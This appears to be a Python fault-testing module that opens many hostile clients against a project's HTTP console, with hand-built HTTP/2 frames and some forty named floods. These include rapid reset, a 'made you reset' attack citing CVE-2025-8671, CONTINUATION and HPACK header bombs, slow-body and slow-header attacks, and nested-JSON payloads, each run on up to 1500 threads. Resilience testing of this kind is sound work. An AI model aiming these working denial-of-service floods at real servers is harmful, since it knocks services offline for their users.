"""Hostile callers of the console, in a process of their own.

Run `python -m tests.faults.console_floods NAME HOST:PORT`. Each flood goes on until the process is ended.
Callers who are cut off come again.
"""

import contextlib
import itertools
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
WIDE = (1 << 31) - 1
BUNDLE = "/docs/swagger-ui-bundle.js"
CHAT = "/v1/chat/completions"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def head(path: str, *, post: bool = False, more: bytes = b"") -> bytes:
    """A head in HPACK, which needs no table."""
    target = path.encode()
    return (b"\x83" if post else b"\x82") + b"\x86\x01\x01a\x04%c%s%s" % (len(target), target, more)


def settings(*pairs: tuple[int, int]) -> bytes:
    """Settings."""
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def window(stream: int, size: int) -> bytes:
    """More room for the server."""
    return frame(WINDOW, 0, stream, struct.pack(">I", size))


def reset(stream: int) -> bytes:
    """A stream given up."""
    return frame(RST, 0, stream, struct.pack(">I", 8))


def get(stream: int, path: str) -> bytes:
    """A whole request."""
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, head(path))


def post(stream: int, path: str, more: bytes = b"") -> bytes:
    """A request whose body is to come."""
    return frame(HEADERS, END_HEADERS, stream, head(path, post=True, more=more))


def literal(name: bytes, value: bytes) -> bytes:
    """A header in HPACK, not indexed, not Huffman-coded."""
    size, length = len(value), b""
    if size < 127:
        length = bytes([size])
    else:
        size -= 127
        length = b"\x7f"
        while size >= 128:
            length += bytes([size % 128 + 128])
            size //= 128
        length += bytes([size])
    return b"\x00%c%s%s%s" % (len(name), name, length, value)


def numbers() -> Iterator[int]:
    """The numbers of a caller's streams."""
    return itertools.count(1, 2)


def connect(address: str) -> socket.socket:
    """A connection that reads nothing by itself."""
    host, _, port = address.rpartition(":")
    connected = socket.create_connection((host, int(port)), 10)
    connected.settimeout(30)
    return connected


def endless(make: Callable[[], Iterator[bytes]], *, reads: bool) -> Callable[[str], None]:
    """A caller who sends what is made, without end or until all is sent, and then stays."""

    def call(address: str) -> None:
        with connect(address) as connected:
            connected.sendall(PREFACE)
            if reads:
                threading.Thread(target=_drain, args=(connected,), daemon=True).start()
            for piece in make():
                connected.sendall(piece)
            time.sleep(3600)

    return call


def _drain(connected: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connected.recv(65536):
            pass


def unread(path: str, wide: bool = True, then: bytes = b"") -> Callable[[], Iterator[bytes]]:
    """A hundred answers that nobody reads."""

    def make() -> Iterator[bytes]:
        yield settings((4, WIDE if wide else 65535)) + (window(0, WIDE - 65535) if wide else b"")
        yield b"".join(get(number, path) for number in itertools.islice(numbers(), 100)) + then

    return make


def one_unread(path: str) -> Callable[[], Iterator[bytes]]:
    """One answer that nobody reads."""
    return lambda: iter([settings((4, WIDE)) + window(0, WIDE - 65535) + get(1, path)])


def again_and_again(piece: bytes, first: bytes = b"") -> Callable[[], Iterator[bytes]]:
    """The same without end."""

    def make() -> Iterator[bytes]:
        yield settings() + first
        while True:
            yield piece

    return make


def each(
    make_one: Callable[[int], bytes], first: bytes = b"", batch: int = 50
) -> Callable[[], Iterator[bytes]]:
    """Something on one stream after the other."""

    def make() -> Iterator[bytes]:
        yield settings() + first
        stream = numbers()
        while True:
            yield b"".join(make_one(next(stream)) for _ in range(batch))

    return make


def made_you_reset(stream: int) -> bytes:
    """Have the server reset a stream that it works on (CVE-2025-8671)."""
    return get(stream, "/openapi.json") + window(stream, WIDE)


def tiny() -> Iterator[bytes]:
    """Take answers byte by byte."""
    yield settings((4, 1))
    yield b"".join(get(number, BUNDLE) for number in itertools.islice(numbers(), 100))
    while True:
        yield b"".join(window(number, 1) for number in itertools.islice(numbers(), 100))


def many_settings() -> Iterator[bytes]:
    """Settings of every number there is."""
    for start in range(10, 65000, 30):
        yield settings(*((number, 1) for number in range(start, start + 30)))


def bomb(stream: int) -> bytes:
    """Thousands of headers in a few bytes."""
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, head("/openapi.json") + b"\x90" * 1200)


def split(stream: int, block: bytes, flags: int = END_STREAM, last: bool = True) -> bytes:
    """A head in as many frames as it takes."""
    parts = [block[at : at + 16384] for at in range(0, len(block), 16384)]
    kinds = [HEADERS] + [CONTINUATION] * (len(parts) - 1)
    return b"".join(
        frame(
            kind,
            (flags if kind == HEADERS else 0) | (END_HEADERS if last and at == len(parts) - 1 else 0),
            stream,
            part,
        )
        for at, (kind, part) in enumerate(zip(kinds, parts, strict=True))
    )


BIG_HEAD = head(CHAT, post=True, more=b"".join(literal(b"x-%02d" % n, b"v" * 1000) for n in range(60)))


def large_heads(stream: int) -> bytes:
    """A head of sixty kilobytes, whose body does not come."""
    return split(stream, BIG_HEAD, flags=0)


def incomplete_heads() -> Iterator[bytes]:
    """A head whose last frame does not come."""
    yield settings() + split(1, BIG_HEAD, last=False)


def slow_bodies() -> Iterator[bytes]:
    """Bodies that come byte by byte, and never to an end."""
    yield settings()
    streams = list(itertools.islice(numbers(), 100))
    yield b"".join(post(number, CHAT if number % 4 == 1 else "/manage/projects") for number in streams)
    while True:
        yield b"".join(frame(DATA, 0, number, b"x" * 200) for number in streams)
        time.sleep(1)


def large_bodies() -> Iterator[bytes]:
    """A body as large as the windows on every stream, without its end."""
    yield settings()
    for number in itertools.islice(numbers(), 100):
        yield post(number, "/manage/projects") + b"".join(
            frame(DATA, 0, number, b"x" * 16000) for _ in range(4)
        )


def unfinished_preface(address: str) -> None:
    """Begin to speak, one way or the other."""
    with connect(address) as connected:
        connected.sendall(PREFACE[:10])
        time.sleep(3600)


def http1(request: bytes, *, times: int = 1, ends: bool = True) -> Callable[[str], None]:
    """A caller of HTTP/1.1 who reads nothing."""

    def call(address: str) -> None:
        with connect(address) as connected:
            for _ in range(times):
                connected.sendall(request)
            time.sleep(3600)

    return call


def upgrades(address: str) -> None:
    """Offer HTTP/2 again and again, in ways that are allowed and that are not."""
    offer = b"GET %s HTTP/1.1\r\nhost: a\r\nconnection: upgrade, http2-settings\r\n"
    offer += b"upgrade: h2c\r\nhttp2-settings: %s\r\n\r\n"
    for number in itertools.count():
        with connect(address) as connected:
            connected.sendall(
                offer
                % ([b"/docs", b"*", b""][number % 3], [b"AAMAAABk", b"!!", b"AAE"][number // 3 % 3])
                * 50
            )
            connected.settimeout(1)
            with contextlib.suppress(OSError):
                connected.recv(100)


PINGS = frame(PING, 0, 0, b"12345678") * 50
PRIORITIES = frame(PRIORITY, 0, 5, struct.pack(">IB", 3, 7)) * 50
CONTINUATIONS = frame(CONTINUATION, 0, 1) * 50
LONG_CONTINUATION = frame(CONTINUATION, 0, 1, b"x" * 16000)
OPEN_HEAD = frame(HEADERS, 0, 1, head(CHAT))
UPLOAD = b"POST /manage/projects HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n" + b"z" * 900_000
HOSTILE_JSON = (
    b"POST /manage/projects HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n" + b"[" * 1_000_000
)
RAPID = each(lambda stream: get(stream, "/openapi.json") + reset(stream))
# name -> how many at a time, and what each does
FLOODS: dict[str, tuple[int, Callable[[str], None]]] = {
    "answers nobody reads": (20, endless(unread(BUNDLE), reads=False)),
    "answers without a window": (20, endless(unread(BUNDLE, wide=False), reads=True)),
    "descriptions nobody reads": (20, endless(unread("/openapi.json"), reads=False)),
    "metrics nobody reads": (20, endless(unread("/metrics"), reads=False)),
    "metrics without a window": (20, endless(unread("/metrics", wide=False), reads=True)),
    "answers nobody reads on many connections": (300, endless(unread(BUNDLE), reads=False)),
    "a description nobody reads": (1000, endless(one_unread("/openapi.json"), reads=False)),
    "rapid reset": (20, endless(RAPID, reads=True)),
    "rapid reset, unread": (20, endless(RAPID, reads=False)),
    "made you reset": (20, endless(each(made_you_reset), reads=True)),
    "requests without end": (20, endless(each(lambda stream: get(stream, "/docs")), reads=True)),
    "requests of the data plane": (20, endless(each(lambda stream: get(stream, "/v1/models")), reads=True)),
    "settings": (20, endless(again_and_again(settings((4, 70000), (4, 1)) * 50), reads=False)),
    "many settings": (20, endless(many_settings, reads=True)),
    "pings": (20, endless(again_and_again(PINGS), reads=False)),
    "pings, read": (20, endless(again_and_again(PINGS), reads=True)),
    "priorities": (20, endless(again_and_again(PRIORITIES), reads=True)),
    "windows": (20, endless(again_and_again(window(0, 1) * 50), reads=True)),
    "zero windows": (20, endless(again_and_again(window(1, 0) * 50, post(1, CHAT)), reads=True)),
    "empty data": (20, endless(again_and_again(frame(DATA, 0, 1) * 50, post(1, CHAT)), reads=True)),
    "unknown frames": (20, endless(again_and_again(frame(0x42, 0, 1) * 50), reads=True)),
    "bytes of data": (20, endless(again_and_again(frame(DATA, 0, 1, b"x") * 50, post(1, CHAT)), reads=True)),
    "empty continuations": (20, endless(again_and_again(CONTINUATIONS, OPEN_HEAD), reads=True)),
    "continuations": (20, endless(again_and_again(LONG_CONTINUATION, OPEN_HEAD), reads=True)),
    "tiny windows": (20, endless(tiny, reads=True)),
    "bombs": (20, endless(each(bomb), reads=True)),
    "large heads": (20, endless(each(large_heads, batch=1), reads=True)),
    "large heads, unread": (20, endless(each(large_heads, batch=1), reads=False)),
    "incomplete heads": (800, endless(incomplete_heads, reads=True)),
    "slow bodies": (20, endless(slow_bodies, reads=True)),
    "large bodies": (100, endless(large_bodies, reads=True)),
    "unfinished prefaces": (800, unfinished_preface),
    "connections without end": (1500, endless(lambda: iter([settings()]), reads=True)),
    "http/1.1: unread answers": (800, http1(b"GET %s HTTP/1.1\r\nhost: a\r\n\r\n" % BUNDLE.encode())),
    "http/1.1: unread metrics": (800, http1(b"GET /metrics HTTP/1.1\r\nhost: a\r\n\r\n")),
    "http/1.1: pipelined": (60, http1(b"GET /docs HTTP/1.1\r\nhost: a\r\n\r\n" * 1000, times=1000)),
    "http/1.1: slow heads": (800, http1(b"GET /docs HTTP/1.1\r\nhost: a\r\nx: " + b"y" * 60000)),
    "http/1.1: slow bodies": (800, http1(UPLOAD)),
    "http/1.1: hostile json": (60, http1(HOSTILE_JSON, times=1000)),
    "upgrades": (20, upgrades),
}  # fmt: skip


def _again(call: Callable[[str], None], address: str) -> None:
    while True:
        with contextlib.suppress(OSError):
            call(address)
        time.sleep(0.01)


def main() -> None:
    """Flood."""
    _, name, address = sys.argv
    number, call = FLOODS[name]
    threading.stack_size(128 * 1024)
    for _ in range(number):
        threading.Thread(target=_again, args=(call, address), daemon=True).start()
    time.sleep(3600)


if __name__ == "__main__":
    main()
